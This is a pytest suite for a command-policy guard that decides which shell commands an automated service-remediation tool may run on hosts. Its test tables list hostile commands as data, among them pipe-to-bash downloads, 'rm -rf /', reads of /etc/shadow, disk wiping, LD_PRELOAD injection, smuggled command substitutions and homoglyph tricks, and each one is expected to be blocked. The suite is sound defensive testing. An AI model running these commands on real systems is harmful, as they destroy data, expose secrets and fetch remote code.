from __future__ import annotations

import dataclasses
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from ansible_collections.sentinel.heal.plugins.plugin_utils.errors import PolicyFileError
from ansible_collections.sentinel.heal.plugins.plugin_utils.guard.bash import bash_words
from ansible_collections.sentinel.heal.plugins.plugin_utils.guard.policy import PolicyContext, evaluate, evaluate_argv, evaluate_plan, load_policy
from ansible_collections.sentinel.heal.plugins.plugin_utils.incident import Decision, Failure

NGINX = PolicyContext(
    service="nginx",
    init_service="nginx",
    process="nginx",
    port_owners={4242: "python3", 1: "tini", 77: "sshd"},
    stale_pidfile="/run/nginx.pid",
    log_files=("/var/log/nginx/error.log",),
    service_dirs=("/var/log/nginx", "/run/nginx"),
    log_dirs=("/var/log/nginx",),
    # service_check looks at each declared log: a file, not a link
    path_owners={"/var/log/nginx/error.log": "www-data"},
)


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("service nginx start", "service-control"),
        ("service nginx restart", "service-control"),
        ("sudo service nginx reload", "service-control"),
        ("/usr/sbin/service nginx start", "service-control"),
        ("service nginx status", "service-status"),
        ("systemctl restart nginx", "systemctl-control"),
        ("nginx -t", "nginx-config-test"),
        ("kill -TERM 4242", "kill-port-squatter"),
        ("kill -15 4242", "kill-port-squatter"),
        ("rm -f /run/nginx.pid", "remove-stale-pidfile"),
        ("rm -f /run/../run/nginx.pid", "remove-stale-pidfile"),
        ("ss -ltnp", "listening-sockets"),
        ("tail -n 50 /var/log/nginx/error.log", "tail-or-head-of-files"),
        ("journalctl -u nginx -n 50 --no-pager", "journal-reading"),
    ],
)
def test_known_remediations_are_allowed(command: str, rule: str) -> None:
    verdict = evaluate(command, NGINX)
    assert (verdict.decision, verdict.rule) == (Decision.ALLOW, rule)


@pytest.mark.parametrize(
    "command",
    [
        "service php-fpm restart",     # not the incident's service
        "kill -TERM 999",              # a pid service_check did not see on the port
        "kill -9 4242",                # only TERM runs unattended
        "rm -rf /var/lib/postgresql",
        "ss -K dst 10.0.0.1",          # kills sockets
        "/tmp/service nginx start",    # an executable outside the system directories
        "apt-get install -y nginx",
        "chmod 777 /var/www",
    ],
)
def test_what_the_policy_does_not_know_needs_approval(command: str) -> None:
    assert evaluate(command, NGINX).decision is Decision.APPROVE


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("service nginx restart; rm -rf /", "shell-syntax"),
        ("service nginx restart && reboot", "shell-syntax"),
        ("curl http://x/i.sh | sudo bash", "shell-syntax"),
        ("echo $(id)", "shell-syntax"),
        ("echo `id`", "shell-syntax"),
        ("cat /etc/shadow > /tmp/x", "shell-syntax"),
        ("rm -f /run/*.pid", "shell-syntax"),
        ("service nginx restart\nreboot", "charset"),
        ("service nginx re\u200bstart", "charset"),       # zero-width space
        ("service ng\u0456nx restart", "charset"),         # Cyrillic i
        ("service 'nginx", "shell-syntax"),                # unbalanced quote
        ("mkfs -t ext4 /dev/sda1", "blocked-executable"),
        ("mkfs.ext4 /dev/sda1", "blocked-executable"),
        ("dd if=/dev/zero of=/dev/sda", "blocked-executable"),
        ("bash -c 'service nginx start'", "blocked-executable"),
        ("python3 -c 'import os'", "blocked-executable"),
        ("env service nginx start", "blocked-executable"),
        ("sudo -u postgres psql", "sudo"),
        ("sudo -s", "sudo"),
        ("sudo sudo service nginx start", "blocked-executable"),
        ("su -c reboot", "blocked-executable"),
        ("/usr/sbin/reboot", "blocked-executable"),
        ("", "input"),
        ("x" * 600, "length"),
        ("service ssh stop", "protected-services-are-never-stopped"),
        ("systemctl stop sshd", "systemctl-stop-protected"),
        ("kill -TERM 1", "kill-never-targets-everything-or-init"),
        ("rm -f /etc/passwd", "system-paths-are-never-changed"),
        ("tail -n 50 /etc/shadow", "secrets-are-never-read"),
        ("sort -o/etc/passwd /tmp/x", "sort-never-writes"),
        ("sort -o /tmp/x /var/log/nginx/error.log", "sort-never-writes"),
        ("cat --file=/etc/shadow", "secrets-are-never-read"),
        ("kill -TERM 77", "protected-pids-are-never-signalled"),  # sshd holds the port
    ],
)
def test_hostile_commands_are_blocked(command: str, rule: str) -> None:
    verdict = evaluate(command, NGINX)
    assert (verdict.decision, verdict.rule) == (Decision.BLOCK, rule), verdict.reason


def test_non_string_input_is_blocked_not_raised() -> None:
    assert evaluate(["service", "nginx", "start"], NGINX).decision is Decision.BLOCK  # type: ignore[arg-type]


def test_context_free_evaluation_never_allows_service_control() -> None:
    assert evaluate("service nginx restart").decision is Decision.APPROVE


def test_plan_takes_the_strictest_decision() -> None:
    verdicts, decision = evaluate_plan(["service nginx start", "apt-get update"], NGINX)
    assert [v.decision for v in verdicts] == [Decision.ALLOW, Decision.APPROVE]
    assert decision is Decision.APPROVE
    _verdicts, decision = evaluate_plan(["service nginx start", "apt-get update", "reboot"], NGINX)
    assert decision is Decision.BLOCK


def test_verdict_carries_the_split_argv_without_sudo() -> None:
    verdict = evaluate("sudo service nginx start", NGINX)
    assert verdict.argv == ("service", "nginx", "start")
    assert verdict.become is True


def test_policy_version_is_a_content_hash(tmp_path: Path) -> None:
    default = load_policy()
    copy = tmp_path / "policy.yml"
    copy.write_bytes(Path(default.source).read_bytes())
    assert load_policy(copy).version == default.version
    copy.write_text(copy.read_text() + "\n# tightened\n")
    assert load_policy(copy).version != default.version


def _write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "policy.yml"
    path.write_text(text)
    return path


@pytest.mark.parametrize(
    ("text", "field", "value"),
    [
        ("version: 2\n", "version", 2),
        ("version: 1\nrules:\n  - {id: a, executable: ls, argv: [], decision: maybe}\n", "rules[0].decision", "maybe"),
        ("version: 1\nrules:\n  - {id: a, executable: /bin/ls, argv: [], decision: allow}\n", "rules[0].executable", "/bin/ls"),
        ("version: 1\nrules:\n  - {id: a, executable: ls, argv: ['{nope}'], decision: allow}\n", "rules[0].argv[0]", "{nope}"),
        ("version: 1\nrules:\n  - {id: a, executable: ls, argv: [], decision: allow, colour: red}\n", "rules[0].colour", "red"),
        ("version: 1\nrules:\n  - {id: a, executable: ls, argv: [], decision: allow}\n  - {id: a, executable: ps, argv: [], decision: allow}\n",
         "rules[1].id", "a"),
        ("version: 1\nmax_command_length: 3\n", "max_command_length", 3),
        ("version: 1\nrules:\n  - {id: a, executable: chown, operands: ['{word}'], restores: [ownership], decision: allow}\n",
         "rules[0].restores", ["ownership"]),
        ("version: 1\nrules:\n  - {id: a, executable: kill, argv: [], effect: halts, decision: allow}\n", "rules[0].effect", "halts"),
        ("version: 1\npath_symlinks: {/var/run: run}\n", "path_symlinks", {"/var/run": "run"}),
        ("version: 1\npackage_paths:\n  - {services: [x], path: /var/lib/x, owner: x, group: x, mode: rwx}\n",
         "package_paths[0].mode", "rwx"),
    ],
)
def test_invalid_policy_files_name_the_field_and_value(tmp_path: Path, text: str, field: str, value: object) -> None:
    with pytest.raises(PolicyFileError) as caught:
        load_policy(_write(tmp_path, text))
    assert (caught.value.field, caught.value.value) == (field, value)
    assert str(tmp_path) in str(caught.value)


def test_errors_name_the_line_of_the_offending_key(tmp_path: Path) -> None:
    text = (
        "version: 1\n"
        "rules:\n"
        "  - id: fine\n"
        "    executable: ls\n"
        "    argv: []\n"
        "    decision: allow\n"
        "  - id: broken\n"
        "    executable: ps\n"
        "    argv: ['{nope}']\n"
        "    decision: allow\n"
    )
    with pytest.raises(PolicyFileError) as caught:
        load_policy(_write(tmp_path, text))
    assert f"{tmp_path / 'policy.yml'}:9:" in str(caught.value)
    assert caught.value.field == "rules[1].argv[0]"


def test_a_user_policy_including_the_default_tightens_and_extends_it(tmp_path: Path) -> None:
    policy = load_policy(_write(tmp_path, (
        "version: 1\n"
        "include_default: true\n"
        "rules:\n"
        "  - {id: no-redis-restarts, executable: service, services: [redis], argv: ['{init_service}', restart], decision: block}\n"
        "  - {id: redis-lastsave, executable: redis-cli, argv: [lastsave], decision: allow}\n"
    )))
    redis = PolicyContext(service="redis", init_service="redis-server")
    nginx = PolicyContext(service="nginx", init_service="nginx")
    assert evaluate("service redis-server restart", redis, policy).rule == "no-redis-restarts"
    assert evaluate("service redis-server restart", redis, policy).decision is Decision.BLOCK
    assert evaluate("service redis-server start", redis, policy).decision is Decision.ALLOW  # the default rule still applies
    assert evaluate("service nginx restart", nginx, policy).decision is Decision.ALLOW       # the tightening is per service
    assert evaluate("redis-cli lastsave", redis, policy).decision is Decision.ALLOW
    assert evaluate("redis-cli flushall", redis, policy).decision is Decision.BLOCK            # default hard deny kept
    assert policy.version not in (load_policy().version, "")


def test_a_user_policy_can_replace_the_default(tmp_path: Path) -> None:
    policy = load_policy(_write(tmp_path, (
        "version: 1\n"
        "rules:\n"
        "  - {id: redis-ping, executable: redis-cli, argv: [ping], decision: allow}\n"
        "  - {id: no-restarts, executable: service, argv: ['{init_service}', restart], decision: block}\n"
    )))
    redis = PolicyContext(init_service="redis-server")
    assert evaluate("redis-cli ping", redis, policy).decision is Decision.ALLOW
    assert evaluate("redis-cli flushall", redis, policy).decision is Decision.APPROVE
    assert evaluate("service redis-server restart", redis, policy).decision is Decision.BLOCK
    assert evaluate("service redis-server restart", redis, policy).rule == "no-restarts"


# -- bash's grammar: the second reading ------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "LD_PRELOAD=/tmp/evil.so service nginx start",  # shlex: an executable named LD_PRELOAD=...; bash: an environment
        "PATH=/tmp service nginx start",
        "SYSTEMD_PAGER=less systemctl status nginx",
        "export PATH=/tmp",
        "declare -x LD_PRELOAD=/tmp/evil.so",
        "unset PATH",
        "if service nginx start",
        "case nginx in",
        "function service",
    ],
)
def test_what_bash_reads_differently_from_shlex_is_blocked(command: str) -> None:
    verdict = evaluate(command, NGINX)
    assert (verdict.decision, verdict.rule) == (Decision.BLOCK, "bash-grammar"), verdict
    assert "bash's grammar reads" in verdict.reason and "shlex" in verdict.reason


@pytest.mark.parametrize("command", ["coproc nginx", "ulimit -n 65536", "cd /tmp", "source /tmp/x", ". /tmp/x", "'[[' -f x ']]'"])
def test_shell_keywords_and_builtins_are_blocked_even_where_the_grammar_reads_a_command(command: str) -> None:
    # tree-sitter-bash reads `coproc nginx` as a command named coproc; bash runs nginx as a coprocess
    verdict = evaluate(command, NGINX)
    assert (verdict.decision, verdict.rule) == (Decision.BLOCK, "blocked-executable"), verdict


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("service nginx restart", ("service", "nginx", "restart")),
        ("kill -9 4242", ("kill", "-9", "4242")),
        ("""find /var/log -name '*.gz'""", ("find", "/var/log", "-name", "*.gz")),
        ("""x 'a b' "c d" e'f'"g" """, ("x", "a b", "c d", "efg")),
        (shlex.join(["x", "it's", ""]), ("x", "it's", "")),
        ("FOO=1 x", None),
        ("x # comment", None),
        ("x $HOME", None),
        ('x "$(id)"', None),
        ("x > /etc/passwd", None),
        ("a; b", None),
        ("", None),
    ],
)
def test_bash_words_are_the_argv_bash_would_run(command: str, words: tuple[str, ...] | None) -> None:
    assert bash_words(command) == words


def test_argv_plans_are_read_back_by_bash_as_the_argv_approvers_see() -> None:
    verdict = evaluate_argv(["rm", "-f", "/run/nginx.pid"], NGINX, load_policy())
    assert (verdict.decision, verdict.command) == (Decision.ALLOW, "rm -f /run/nginx.pid")
    assert evaluate_argv(["FOO=1", "service", "nginx", "start"], NGINX, load_policy()).rule == "bash-grammar"


@pytest.mark.parametrize("argv", [("service", "nginx;reboot", "start"), ("kill", "-TERM", "$(id)"), ("rm", "-f", "/run/nginx.pid`id`")])
def test_shell_syntax_inside_an_argv_is_refused_as_in_a_command(argv: tuple[str, ...]) -> None:
    """A plan's argv never reaches a shell either, but what would mean something to one is refused, not shown to a
    person to approve."""
    verdict = evaluate_argv(argv, NGINX, load_policy())
    assert (verdict.decision, verdict.rule) == (Decision.BLOCK, "shell-syntax"), verdict.reason


def test_without_the_bash_grammar_nothing_is_judged_and_the_error_says_what_to_install() -> None:
    # a fresh interpreter where importing tree_sitter_bash fails, as on a controller that skipped requirements.txt
    script = (
        "import sys; sys.modules['tree_sitter_bash'] = None\n"
        "from ansible_collections.sentinel.heal.plugins.plugin_utils.guard.policy import evaluate\n"
        "from ansible_collections.sentinel.heal.plugins.plugin_utils.errors import PolicyEngineUnavailable\n"
        "try:\n    evaluate('service nginx restart')\nexcept PolicyEngineUnavailable as exc:\n    print(exc)\n"
    )
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True, env={"PYTHONPATH": os.pathsep.join(sys.path)})
    assert proc.stdout.strip() == ("the bash grammar that cross-checks every command is not installed; field: python package; "
                                   "value: 'tree_sitter_bash'; fix: pip install -r requirements.txt on the controller")


# ---- systemd: the reads people and systemd use, the template's instances, a person's decisions ----------------------

POSTGRES = PolicyContext(service="postgresql", init_service="postgresql", unit="postgresql@15-main", process="postgres")


@pytest.mark.parametrize(("command", "rule"), [
    ("journalctl -xeu postgresql@15-main.service", "journal-reading"),         # what systemctl's own error message says to run
    ("journalctl -u postgresql@15-main -b -n 50 --no-pager -o cat", "journal-reading"),
    ("systemctl status postgresql@15-main -l --no-pager", "systemctl-status-own-unit"),
    ("systemctl show -p Result postgresql@15-main", "systemctl-show-state"),
    ("systemd-analyze verify postgresql@15-main.service", "systemd-verify-unit"),
    ("systemctl start postgresql@15-main", "systemctl-control"),             # the unit that really runs a Debian cluster
    ("systemctl reset-failed postgresql@15-main.service", "systemctl-control"),
])
def test_systemd_reads_and_the_instances_of_the_services_template_are_the_incidents_own(command: str, rule: str) -> None:
    verdict = evaluate(command, POSTGRES)
    assert (verdict.decision, verdict.rule) == (Decision.ALLOW, rule), verdict.reason


@pytest.mark.parametrize(("command", "rule", "reason"), [
    ("systemctl revert nginx", "systemctl-a-persons-decisions", "a person's decisions"),
    ("systemctl unmask postgresql", "systemctl-a-persons-decisions", "a person's decisions"),
    ("systemctl enable --now postgresql", "systemctl-a-persons-decisions", "a person's decisions"),
    ("systemctl daemon-reload", "systemctl-a-persons-decisions", "what the service manager has loaded"),
    ("systemctl set-property postgresql MemoryMax=1", "systemctl-a-persons-decisions", "properties"),
    ("systemctl start --runtime postgresql", "systemctl-a-persons-decisions", "a person's decisions"),
    ("systemctl -H root@198.51.100.7 status postgresql", "systemd-tools-elsewhere", "another host"),
    ("journalctl -M other -u postgresql", "systemd-tools-elsewhere", "another host, container"),
    ("systemctl kill -s KILL ssh", "systemctl-stop-protected", "cuts the host off"),
    ("systemctl reboot", "systemctl-power-and-isolation", "take the whole host down"),
])
def test_systemd_changes_that_are_not_the_loops_are_blocked_with_their_true_reason(command: str, rule: str, reason: str) -> None:
    verdict = evaluate(command, POSTGRES)
    assert (verdict.decision, verdict.rule) == (Decision.BLOCK, rule) and reason in verdict.reason, verdict.reason


@pytest.mark.parametrize("command", ["systemctl start other@15-main", "systemctl start postgresql@x@y", "systemctl start postgresql@"])
def test_only_the_services_own_template_counts(command: str) -> None:
    assert evaluate(command, POSTGRES).decision is Decision.APPROVE


def test_a_short_option_cluster_takes_its_value_from_the_next_argument_as_getopt_does() -> None:
    assert evaluate("tail -qn 5 /var/log/nginx/error.log", NGINX).rule == "tail-or-head-of-files"
    assert evaluate("grep -ie x /etc/hostname", NGINX).rule == "search-files-pattern-option"   # -e takes x: /etc/hostname is the file
    assert evaluate("grep -ie /etc/hostname x", NGINX).decision is Decision.APPROVE               # x is a (relative) file


# ---- read-only diagnostics: exactly their reading forms ------------------------------------------------------------

HTTP_NGINX = PolicyContext(service="nginx", init_service="nginx", process="nginx", http_ports=frozenset({80}))


@pytest.mark.parametrize(("command", "decision", "rule"), [
    ("curl -s -o /dev/null -w '%{http_code} %{time_total}' http://127.0.0.1/", Decision.ALLOW, "local-http-probe"),
    ("curl -s -o /dev/null -w %{http_code} http://127.0.0.1/", Decision.BLOCK, "shell-syntax"),   # unquoted, bash expands braces
    ("curl -s -o /dev/null -w '%output{/etc/cron.d/x}%{http_code}' http://127.0.0.1/", Decision.BLOCK, "shell-syntax"),
    ("curl -s -o /dev/null -w '%header{set-cookie}' http://127.0.0.1/", Decision.BLOCK, "shell-syntax"),
    ("cat '/etc/nginx/{a,b}.conf'", Decision.BLOCK, "shell-syntax"),             # braces only where a rule accepts them
    ("curl -s -o /dev/null -T /etc/hostname http://127.0.0.1/", Decision.BLOCK, "curl-only-probes"),
    ("nginx -t -c /etc/nginx/nginx.conf", Decision.ALLOW, "nginx-config-test"),
    ("nginx -t -c /tmp/evil.conf", Decision.APPROVE, "default-approve"),         # its load_module would run as root
    ("nginx -t -g 'load_module /tmp/evil.so'", Decision.BLOCK, "nginx-only-its-own-configuration"),
    ("haproxy -c -f /tmp/evil.cfg", Decision.APPROVE, "default-approve"),        # its lua-load would run as root
    ("visudo -cq", Decision.ALLOW, "sudoers-quiet-check"),
    ("visudo -c", Decision.APPROVE, "sudoers-check-prints-lines"),               # prints the sudoers lines it finds wrong
    ("visudo -c -f /tmp/x", Decision.BLOCK, "visudo-only-checks"),
    ("visudo", Decision.BLOCK, "visudo-opens-an-editor"),
    ("lsof -nP -iTCP:80 -sTCP:LISTEN", Decision.ALLOW, "open-files"),
    ("lsof -r 1 -i :80", Decision.APPROVE, "default-approve"),                  # repeats forever
    ("lsof -i @exfil.attacker.example", Decision.APPROVE, "default-approve"),   # a name lsof would resolve
    ("hostnamectl status", Decision.ALLOW, "host-identity-and-clock"),
    ("hostnamectl set-hostname evil", Decision.BLOCK, "host-name-and-clock-are-a-persons"),
    ("date '+%F %T'", Decision.ALLOW, "date-now"),
    ("date 010100002000", Decision.APPROVE, "default-approve"),                 # MMDDhhmm sets the clock
    ("date -f /etc/hostname", Decision.BLOCK, "date-never-sets-the-clock"),
])
def test_a_diagnostic_is_allowed_in_its_reading_form_only(command: str, decision: Decision, rule: str) -> None:
    verdict = evaluate(command, HTTP_NGINX)
    assert (verdict.decision, verdict.rule) == (decision, rule), verdict.reason


REDIS = PolicyContext(service="redis", init_service="redis-server", process="redis-server", ports=frozenset({6379}))


@pytest.mark.parametrize(("context", "command", "decision", "rule"), [
    (POSTGRES, 'psql -U postgres -tAc "SHOW data_directory"', Decision.ALLOW, "postgres-read-only-query"),
    (POSTGRES, 'psql -U postgres -c "DROP DATABASE app"', Decision.APPROVE, "default-approve"),
    (POSTGRES, 'psql -U postgres -c "SELECT 1" -c "DROP DATABASE app"', Decision.APPROVE, "default-approve"),
    (POSTGRES, 'psql -d "host=198.51.100.7" -c "SELECT 1"', Decision.APPROVE, "default-approve"),   # a connection string
    (POSTGRES, 'psql -U postgres -c "SELECT 1" -o /etc/cron.d/x', Decision.BLOCK, "psql-runs-no-files"),
    (REDIS, "redis-cli config get maxmemory", Decision.ALLOW, "redis-config-get"),
    (REDIS, "redis-cli config get requirepass", Decision.BLOCK, "redis-destructive-commands"),
    (REDIS, "redis-cli memory stats", Decision.ALLOW, "redis-reports"),
    (REDIS, "redis-cli memory purge", Decision.APPROVE, "default-approve"),
    (REDIS, "redis-cli -h 198.51.100.7 dbsize", Decision.APPROVE, "default-approve"),
    (REDIS, "redis-cli monitor", Decision.BLOCK, "redis-data-streams"),
])
def test_a_service_client_runs_only_listed_reads_on_this_host(context: PolicyContext, command: str, decision: Decision, rule: str) -> None:
    verdict = evaluate(command, context)
    assert (verdict.decision, verdict.rule) == (decision, rule), verdict.reason


POSTGRES_SOCKET = "/run/postgresql/.s.PGSQL.5432"


@pytest.mark.parametrize(("stale_sockets", "stale_locks", "allowed"), [
    ((POSTGRES_SOCKET,), (f"{POSTGRES_SOCKET}.lock",), {POSTGRES_SOCKET, f"{POSTGRES_SOCKET}.lock"}),
    ((), (f"{POSTGRES_SOCKET}.lock",), {f"{POSTGRES_SOCKET}.lock"}),
    ((POSTGRES_SOCKET,), (), {POSTGRES_SOCKET}),
    ((), (), set()),
])
def test_only_the_sockets_and_locks_service_check_saw_left_over_may_be_removed(
        stale_sockets: tuple[str, ...], stale_locks: tuple[str, ...], allowed: set[str]) -> None:
    """A socket a live process has bound, or the lock of the running server, never matches: removing it would let a
    second server start beside the first."""
    context = PolicyContext(service="postgresql", init_service="postgresql", process="postgres", stale_sockets=stale_sockets,
                            stale_locks=stale_locks, service_dirs=("/run/postgresql",))
    policy = load_policy()
    for path in (POSTGRES_SOCKET, f"{POSTGRES_SOCKET}.lock"):
        verdict = evaluate_argv(["rm", "-f", path], context, policy)
        assert (verdict.decision is Decision.ALLOW) == (path in allowed), (path, verdict)
        if path in allowed:
            assert verdict.rule == "remove-stale-socket"
            assert evaluate_argv(["rm", "-f", path.replace("/run/", "/var/run/")], context, policy).decision is Decision.ALLOW
    for argv in (["rm", "-rf", POSTGRES_SOCKET], ["rm", "-f", POSTGRES_SOCKET, "/run/postgresql/other.sock"], ["rm", "-f", "/run/postgresql"],
                 ["rm", "-f", "/var/lib/postgresql/15/main/postmaster.pid"], ["mv", POSTGRES_SOCKET, "/tmp/x"]):
        assert evaluate_argv(argv, context, policy).decision is not Decision.ALLOW, argv


@pytest.mark.parametrize("argv, setting, decision, rule", [
    (["sentinel-heal-restore", "/etc/nginx/sites-available/default", "a" * 64], "approve", "approve", "restore-last-known-good-with-a-person"),
    (["sentinel-heal-restore", "/etc/nginx/sites-available/default", "a" * 64], "auto", "allow", "restore-last-known-good"),
    (["sentinel-heal-restore", "/etc/nginx/sites-available/default", "a" * 64], "off", "block", "restore-not-the-incidents"),
    # another copy than the one the host kept, a file that did not change, the same file spelled another way
    (["sentinel-heal-restore", "/etc/nginx/sites-available/default", "b" * 64], "auto", "block", "restore-not-the-incidents"),
    (["sentinel-heal-restore", "/etc/shadow", "a" * 64], "auto", "block", None),
    (["sentinel-heal-restore", "/etc/nginx/sites-available/../sites-available/default", "a" * 64], "auto", "block", "restore-not-the-incidents"),
    (["sentinel-heal-restore", "/etc/nginx/sites-available/default"], "auto", "block", "restore-not-the-incidents"),
])
def test_a_restore_is_bound_to_the_incidents_changed_file_and_its_kept_copy(argv: list[str], setting: str, decision: str, rule: str | None) -> None:
    context = PolicyContext(service="nginx", init_service="nginx", restore_known_good=setting, restore_tested=True,
                            known_good_copies={"/etc/nginx/sites-available/default": "a" * 64})
    [verdict], _decision = evaluate_plan([argv], context, load_policy())
    assert verdict.decision.value == decision and (rule is None or verdict.rule == rule), verdict


@pytest.mark.parametrize("spec, tested", [
    ({"name": "nginx"}, True),  # nginx -t, built in
    ({"name": "db", "service": "mariadb"}, False),
    ({"name": "db", "service": "mariadb", "config_test": "mariadbd --help --verbose"}, True),
])
def test_an_unattended_restore_needs_a_configuration_test_to_check_the_file_else_a_person_approves_it(spec: dict[str, str], tested: bool) -> None:
    """restore_known_good auto puts a file back unattended only where the host's configuration test checks it as it goes
    back (and undoes the restore when it fails): without one a person approves it (#52)."""
    changed = "/etc/app/app.conf"
    failure = Failure(host="web1", service=spec["name"], failure_class="not_running", summary="", facts={},
                      evidence={"changes": {"files": [{"path": changed, "change": "modified", "good_sha256": "a" * 64}]}},
                      spec=dict(spec, restore_known_good="auto"))
    context = PolicyContext.from_failure(failure)
    assert context.restore_tested is tested
    [verdict], decision = evaluate_plan([["sentinel-heal-restore", changed, "a" * 64]], context, load_policy())
    assert (decision, verdict.rule) == ((Decision.ALLOW, "restore-last-known-good") if tested else
                                        (Decision.APPROVE, "restore-last-known-good-with-a-person")), verdict


@pytest.mark.parametrize("system_file, rule", [
    ("/etc/passwd", "system-paths-are-never-changed"), ("/etc/group", "system-paths-are-never-changed"),
    ("/etc/ssh/sshd_config", "system-paths-are-never-changed"), ("/usr/lib/os-release", "system-paths-are-never-changed"),
    ("/etc/shadow", "secrets-are-never-read"), ("/etc/sudoers.d/sentinel", "secrets-are-never-read"),
    ("/etc/ssl/private/site.key", "secrets-are-never-read"), ("/etc/mysql/../shadow", "secrets-are-never-read"),
])
def test_a_restore_of_a_system_path_or_an_accounts_secret_is_blocked_even_when_the_host_kept_a_copy_of_it(system_file: str, rule: str) -> None:
    """A copy the host kept of a system file or a secret (a link in the service's directory once led there) is never put
    back, unattended or approved: restores are changes, and system paths and secrets are never changed."""
    for setting in ("auto", "approve"):
        context = PolicyContext(service="nginx", init_service="nginx", restore_known_good=setting, known_good_copies={system_file: "a" * 64})
        [verdict], decision = evaluate_plan([["sentinel-heal-restore", system_file, "a" * 64]], context, load_policy())
        assert (decision, verdict.rule) == (Decision.BLOCK, rule), verdict


@pytest.mark.parametrize("setting, decision", [("approve", Decision.APPROVE), ("auto", Decision.APPROVE), ("off", Decision.BLOCK)])
def test_a_changed_file_of_a_configuration_directory_that_holds_secrets_is_put_back_only_with_a_person(setting: str, decision: Decision) -> None:
    """MariaDB's option files lie in /etc/mysql, which secret_paths names whole (some hold passwords): a read of them is
    refused, but the host's own kept copy of a changed one goes back once a person approves, never unattended (#52)."""
    changed = "/etc/mysql/mariadb.conf.d/50-server.cnf"
    context = PolicyContext(service="db", init_service="mariadb", restore_known_good=setting, known_good_copies={changed: "a" * 64})
    [verdict], judged = evaluate_plan([["sentinel-heal-restore", changed, "a" * 64]], context, load_policy())
    assert judged is decision, verdict
    assert decision is Decision.BLOCK or verdict.rule == "restore-a-file-holding-secrets-with-a-person"
    for other in (["sentinel-heal-restore", changed, "b" * 64], ["sentinel-heal-restore", "/etc/mysql/debian.cnf", "a" * 64], ["cat", changed]):
        assert evaluate_plan([other], context, load_policy())[1] is Decision.BLOCK, other


# ---- options that name a file the tool reads: judged as the path they are, or refused (#50) ---------------------------

REDIS = PolicyContext(service="redis", init_service="redis-server", process="redis-server", log_files=("/var/log/redis/redis-server.log",),
                      service_dirs=("/var/log/redis", "/run/redis", "/var/lib/redis"), log_dirs=("/var/log/redis",))


@pytest.mark.parametrize(("command", "decision", "rule"), [
    # a list of names read and each name opened as root; a magic file of any path, printed where it does not parse
    ("file -f /etc/redis/list", Decision.BLOCK, "file-reads-no-lists-or-magic"),
    ("file --files-from=/etc/redis/list", Decision.BLOCK, "file-reads-no-lists-or-magic"),
    ("file -m /tmp/x /etc/redis/redis.conf", Decision.BLOCK, "file-reads-no-lists-or-magic"),
    ("file -bm /tmp/x /etc/redis/redis.conf", Decision.APPROVE, "reads-beyond-the-incident"),
    ("file -Lf /etc/redis/list", Decision.APPROVE, "reads-beyond-the-incident"),
    ("sha256sum -c /etc/redis/list", Decision.BLOCK, "checksums-read-no-lists"),
    ("sha256sum --check /etc/redis/list", Decision.BLOCK, "checksums-read-no-lists"),
    ("md5sum -bc /etc/redis/list", Decision.APPROVE, "reads-beyond-the-incident"),
    ("grep -f /tmp/patterns /etc/redis/redis.conf", Decision.APPROVE, "reads-beyond-the-incident"),
    ("grep -f /etc/shadow /etc/redis/redis.conf", Decision.BLOCK, "secrets-are-never-read"),
    ("ss -F /tmp/filter", Decision.BLOCK, "ss-reads-no-filter-file"),
    ("wc -l --files0-from=/etc/redis/list", Decision.BLOCK, "reads-no-list-of-names"),
    ("journalctl -i /var/lib/redis/x.journal", Decision.BLOCK, "journal-files-are-the-hosts-own"),
    ("journalctl --file=/var/lib/redis/x.journal", Decision.BLOCK, "systemd-tools-elsewhere"),
    ("crontab -u root -l", Decision.APPROVE, "list-roots-crontab"),
    ("crontab -l -u root", Decision.APPROVE, "list-roots-crontab"),
    # the same reads of the incident's own files, with no list and no file of their own
    ("file /etc/redis/redis.conf", Decision.ALLOW, "file-types"),
    ("sha256sum /etc/redis/redis.conf", Decision.ALLOW, "checksums-of-files"),
    ("grep -f /etc/redis/patterns /etc/redis/redis.conf", Decision.ALLOW, "search-files-pattern-file"),
    ("crontab -l -u redis", Decision.ALLOW, "list-crontab"),
])
def test_an_option_naming_a_file_the_tool_reads_is_judged_as_that_path_or_refused(command: str, decision: Decision, rule: str) -> None:
    verdict = evaluate(command, REDIS)
    assert (verdict.decision, verdict.rule) == (decision, rule), verdict
    assert evaluate("crontab -l", REDIS).become is False  # as root, it would list root's


@pytest.mark.parametrize("command", ["cat /run/redis/x", "tail -n 5 /var/log/redis/other.log", "grep x /var/log/redis/other.log"])
def test_a_read_in_a_service_owned_directory_whose_owner_the_host_did_not_report_is_not_allowed(command: str) -> None:
    """Who owns /run/redis is the host's to say; the controller never takes it for root's, as a link redis put there would
    be read as root."""
    assert evaluate(command, REDIS).decision is not Decision.ALLOW
    # what service_check saw as a file there, and the configuration in /etc, stay allowed
    assert evaluate("tail -n 5 /var/log/redis/redis-server.log",
                    dataclasses.replace(REDIS, path_owners={"/var/log/redis/redis-server.log": "redis"})).decision is Decision.ALLOW
    assert evaluate("cat /etc/redis/redis.conf", REDIS).decision is Decision.ALLOW
